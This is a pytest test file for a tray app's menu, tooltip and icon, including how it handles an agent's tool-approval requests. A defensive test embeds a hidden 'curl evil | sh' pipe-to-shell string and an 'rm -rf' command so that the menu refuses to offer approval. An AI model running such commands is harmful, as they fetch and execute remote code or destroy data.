"""The tray's menu, tooltip and icon as values without Qt."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import replace
from datetime import timedelta

import pytest

from t3tray.domain.pending_request import ApprovalRequest, Option, Question, QuestionRequest, Reply
from t3tray.domain.reaper import ReaperPhase, ReaperState
from t3tray.domain.server import ServerState, ServerStatus
from t3tray.domain.verdict import Kind, Reason, Verdict
from t3tray.threads.snapshot import Snapshot
from t3tray.ui.labels import ago, ago_aloud, reaping, server_line, shortened, shown_path, tooltip, verdict_symbol
from t3tray.ui.tray.menu import RECENT, SEPARATOR, MenuAction, MenuItem, answering, menu_of, server_actions
from t3tray.ui.tray.tray import IconState, icon_state
from tests.support.views import NOON, READY, alarm, archived, idle, in_t3, requester, row

STOPPED = ServerStatus(ServerState.STOPPED)
APPROVAL = ApprovalRequest("per_1", requester("c", "explore"), "bash", ("git push",), ("git *",))


def inquiry(*questions: Question) -> QuestionRequest:
    return QuestionRequest("que_1", requester("c"), questions)


def labels(snapshot: Snapshot | None) -> list[str]:
    return [item.label for item in menu_of(snapshot, NOON) if item.label]


def test_before_anything_is_known_it_can_be_opened_and_quit() -> None:
    assert [item.action for item in menu_of(None, NOON) if item.action] == [
        MenuAction.OPEN,
        MenuAction.NEW_THREAD,
        MenuAction.SETTINGS,
        MenuAction.QUIT,
    ]


def test_the_first_entry_opens_the_window_for_macos() -> None:
    assert menu_of(Snapshot(STOPPED), NOON)[0] == MenuItem("Open t3tray", MenuAction.OPEN)


def test_the_whole_menu_from_top_to_bottom() -> None:
    rows = (row("a", Reason.MISSING), idle("b", 12), row("c", Reason.BUSY))
    assert labels(Snapshot(READY, rows, pending_requests=(APPROVAL,), server_stays=True)) == [
        "Open t3tray",
        "Thread c ▸ explore ▸ wants to run git push",
        "1 thread cannot resume",
        "✕  Thread a — a",
        f"●  Thread b — b   ◔ {NOON.astimezone() + timedelta(minutes=12):%H:%M}",
        "●  Thread c — c",
        "New Thread…",
        "Server ready · OpenCode 1.18.33 · 300 MB",
        "Stop Server",
        "Restart Server",
        f"1 idle, next reaped {NOON.astimezone() + timedelta(minutes=12):%H:%M}",
        "Settings…",
        "Quit t3tray",
        "Quit and Stop the Server",
    ]


def test_the_ten_latest_threads_each_with_mark_title_and_folder() -> None:
    rows = tuple(row(f"t{number:02}", age=timedelta(hours=number)) for number in reversed(range(15)))
    threads = [item for item in menu_of(Snapshot(READY, rows), NOON) if item.thread_id]
    assert len(threads) == RECENT
    assert threads[0] == MenuItem("●  Thread t00 — t00", MenuAction.RESUME, "t00")


@pytest.mark.parametrize("reason", list(Reason))
def test_only_a_resumable_thread_is_resumed_every_other_explains_itself(reason: Reason) -> None:
    (item,) = [item for item in menu_of(Snapshot(READY, (row("a", reason),)), NOON) if item.thread_id]
    assert (item.action is MenuAction.RESUME) == (Verdict(reason).kind is Kind.RESUMABLE)


def test_a_tool_that_asks_for_leave_is_answered_right_there() -> None:
    wish, *entries = (item for item in answering(APPROVAL) if item.label)
    assert wish == MenuItem("wants to run git push")
    assert [(item.label, item.reply) for item in entries[:3]] == [
        ("Allow Once", Reply.ONCE),
        ("Always Allow", Reply.ALWAYS),
        ("Reject", Reply.REJECT),
    ]
    assert all(item.action is MenuAction.REPLY and item.request is APPROVAL for item in entries[:3])
    assert (entries[3].label, entries[3].action) == ("From now on: git *", None)
    assert entries[4] == MenuItem("Show Thread", MenuAction.EXPLAIN, "c")


@pytest.mark.parametrize("command", ["git status " + "-" * 200 + "; curl evil | sh", "git status \u202e", "git\nstatus"])
def test_nothing_is_allowed_where_it_cannot_be_read_to_its_end(command: str) -> None:
    unread = replace(APPROVAL, patterns=(command,))
    assert [item.label for item in answering(unread) if item.label] == ["Reject", "Show Thread"]
    (entry,) = [
        item for item in menu_of(Snapshot(READY, (), pending_requests=(unread,)), NOON) if item.below == answering(unread)
    ]
    assert entry.label.isprintable() and len(entry.label) <= 60


@pytest.mark.parametrize("pending", [replace(APPROVAL, patterns=("cd x && rm -rf y",)), replace(APPROVAL, always=("a & b",))])
def test_what_holds_an_ampersand_is_not_allowed_from_a_menu_that_a_panel_draws(pending: ApprovalRequest) -> None:
    (entry,) = [item for item in menu_of(Snapshot(READY, (), pending_requests=(pending,)), NOON) if item.below]
    assert entry.label == "Thread c ▸ explore ▸ waits for your approval"
    assert [(item.label, item.action) for item in entry.below if item.label] == [
        ("Show and Answer…", MenuAction.EXPLAIN),
        ("Reject", MenuAction.REPLY),
    ]


def test_a_question_with_an_ampersand_is_answered_in_the_window() -> None:
    asked = inquiry(Question("Which?", options=(Option("A & B"), Option("C"))))
    (entry,) = [item for item in menu_of(Snapshot(READY, (), pending_requests=(asked,)), NOON) if item.below]
    assert [item.label for item in entry.below if item.label] == ["Show and Answer…", "Leave Unanswered"]


@pytest.mark.parametrize("always", [(), ("git " + "x" * 200,), tuple("abcdefghijklm")])
def test_what_would_be_allowed_from_now_on_is_read_too(always: tuple[str, ...]) -> None:
    entries = answering(replace(APPROVAL, always=always))
    assert Reply.ONCE in {item.reply for item in entries} and Reply.ALWAYS not in {item.reply for item in entries}


def test_a_question_is_answered_by_one_of_its_options_or_left() -> None:
    asked = inquiry(Question("Which version?", options=(Option("1.4"), Option("2.0"))))
    answers = {item.label: item.answers for item in answering(asked) if item.action is MenuAction.ANSWER}
    assert answers == {"1.4": (("1.4",),), "2.0": (("2.0",),), "Leave Unanswered": None}
    assert answering(asked)[0] == MenuItem("Which version?")


@pytest.mark.parametrize(
    "questions",
    [
        (Question("Which?", options=(Option("a"), Option("b")), multiple=True),),
        (Question("Which?", options=(Option("a"),)), Question("And which?", options=(Option("b"),))),
    ],
)
def test_what_one_click_cannot_answer_is_answered_in_the_window(questions: tuple[Question, ...]) -> None:
    actions = [item.action for item in answering(inquiry(*questions)) if item.label]
    assert actions == [MenuAction.EXPLAIN, MenuAction.ANSWER]


def test_what_is_archived_is_in_no_part_of_the_menu_the_tooltip_or_the_icon() -> None:
    snapshot = Snapshot(READY, (archived(row("a", Reason.MISSING)),))
    assert [item for item in menu_of(snapshot, NOON) if item.thread_id or item.below] == []
    assert "No threads yet" in labels(snapshot)
    assert tooltip(snapshot) == "t3tray: server ready" and icon_state(snapshot) is IconState.READY


def test_many_threads_that_cannot_resume_fill_no_screen() -> None:
    rows = tuple(row(f"t{number:02}", Reason.MISSING) for number in range(40))
    (blocked,) = [item for item in menu_of(Snapshot(READY, rows), NOON) if item.below]
    assert blocked.label == "40 threads cannot resume"
    assert [item.label for item in blocked.below][-1] == "28 more…" and len(blocked.below) == 13


def test_a_thread_that_changed_its_session_and_one_that_waits_in_t3_code_need_you() -> None:
    rows = (row("a"), in_t3(row("b"), awaits_approval=True))
    snapshot = Snapshot(READY, rows, alarms=(alarm("a"),))
    assert labels(snapshot)[1:3] == ["Thread a ▸ its session has changed", "Thread b ▸ waits for you in T3 Code"]
    assert tooltip(snapshot) == "t3tray: 2 needs you" and icon_state(snapshot) is IconState.ATTENTION


@pytest.mark.parametrize(("minutes", "ring"), [(30, "◕"), (20, "◑"), (9, "◔"), (3, "○")])
def test_the_ring_empties_in_quarters(minutes: int, ring: str) -> None:
    assert reaping(idle("a", minutes).reaper, NOON).startswith(ring)
    assert reaping(ReaperState(ReaperPhase.IDLE), NOON) == ""


def test_every_verdict_has_a_shape_of_its_own_kind() -> None:
    marks = {kind: {verdict_symbol(Verdict(reason)) for reason in Reason if Verdict(reason).kind is kind} for kind in Kind}
    assert marks == {Kind.RESUMABLE: {"●", "◐", "○"}, Kind.BLOCKED: {"✕"}, Kind.UNKNOWN: {"?"}}


@pytest.mark.parametrize(
    ("state", "actions"),
    [
        (ServerState.STOPPED, (MenuAction.START,)),
        (ServerState.STARTING, (MenuAction.STOP,)),
        (ServerState.READY, (MenuAction.STOP, MenuAction.RESTART)),
        (ServerState.UNRESPONSIVE, (MenuAction.STOP, MenuAction.RESTART)),
        (ServerState.STOPPING, ()),
        (ServerState.WAITING, (MenuAction.STOP,)),
        (ServerState.FAILED, (MenuAction.START, MenuAction.RESTART)),
        (ServerState.EXTERNAL, ()),
    ],
)
def test_the_server_offers_what_its_state_allows(state: ServerState, actions: tuple[MenuAction, ...]) -> None:
    assert server_actions(ServerStatus(state)) == actions
    assert server_line(ServerStatus(state))


def test_the_servers_line_tells_version_and_memory() -> None:
    assert server_line(READY) == "Server ready · OpenCode 1.18.33 · 300 MB"


def test_the_icon_tells_what_matters_most() -> None:
    assert icon_state(None) is IconState.STOPPED
    assert icon_state(Snapshot(STOPPED, (row("a"),))) is IconState.STOPPED
    assert icon_state(Snapshot(READY, (row("a"),))) is IconState.READY
    assert icon_state(Snapshot(READY, (row("a", Reason.BUSY),))) is IconState.BUSY
    assert icon_state(Snapshot(READY, (row("a", Reason.BUSY), row("b", Reason.MISSING)))) is IconState.TROUBLE
    assert icon_state(Snapshot(ServerStatus(ServerState.FAILED))) is IconState.TROUBLE
    assert icon_state(Snapshot(READY, (row("b", Reason.MISSING),), pending_requests=(APPROVAL,))) is IconState.ATTENTION


def test_the_tooltip_is_one_line() -> None:
    assert tooltip(None) == "t3tray"
    assert tooltip(Snapshot(READY, (row("a"),))) == "t3tray: server ready"
    assert tooltip(Snapshot(READY, (row("a", Reason.BUSY), row("b", Reason.MISSING)))) == "t3tray: 1 working · 1 cannot resume"
    busy = tuple(row(name, Reason.BUSY) for name in "abc")
    assert tooltip(Snapshot(READY, (*busy, row("d", Reason.MISSING)), pending_requests=(APPROVAL,))) == (
        "t3tray: 3 working · 1 needs you · 1 cannot resume"
    )
    assert tooltip(Snapshot(ServerStatus(ServerState.FAILED), (row("b", Reason.MISSING),))).endswith(
        "1 cannot resume · server failed"
    )


@pytest.mark.parametrize(
    ("seconds", "text"), [(5, "now"), (720, "12 min"), (3 * 3600, "3 h"), (2 * 86_400, "2 d"), (20 * 86_400, "4 Nov")]
)
def test_how_long_ago(seconds: int, text: str) -> None:
    assert ago(NOON - timedelta(seconds=seconds), NOON) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(5, "just now"), (60, "1 minute ago"), (720, "12 minutes ago"), (3 * 3600, "3 hours ago"), (20 * 86_400, "4 Nov")],
)
def test_how_long_ago_is_read_aloud(seconds: int, text: str) -> None:
    assert ago_aloud(NOON - timedelta(seconds=seconds), NOON) == text


def test_the_users_own_folder_is_written_as_people_write_it() -> None:
    assert shown_path("/home/dev/code/parser", "/home/dev") == "~/code/parser"
    assert shown_path("/home/dev", "/home/dev") == "~"
    assert shown_path("/home/developer/x", "/home/dev") == "/home/developer/x"


def test_a_title_of_many_lines_is_one_short_line() -> None:
    assert shortened("one\n  two", 40) == "one two"
    assert shortened("x" * 60, 10) == "x" * 9 + "…"
    assert SEPARATOR.label == ""


@pytest.mark.process
def test_the_values_are_made_without_qt() -> None:
    modules = ", ".join(f"t3tray.ui.threads.{name}" for name in ("thread_menu", "thread_list_data", "row_text"))
    program = f"import sys, {modules}; print('PySide6' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True).stdout.strip() == "False"


def test_a_list_that_is_old_says_since_when() -> None:
    snapshot = Snapshot(READY, (row("a"),), stale_since=NOON)
    at = f"{NOON.astimezone():%H:%M}"
    assert labels(snapshot)[1] == f"As of {at}; threads cannot be read now…"
    assert tooltip(snapshot) == f"t3tray: server ready · as of {at}"
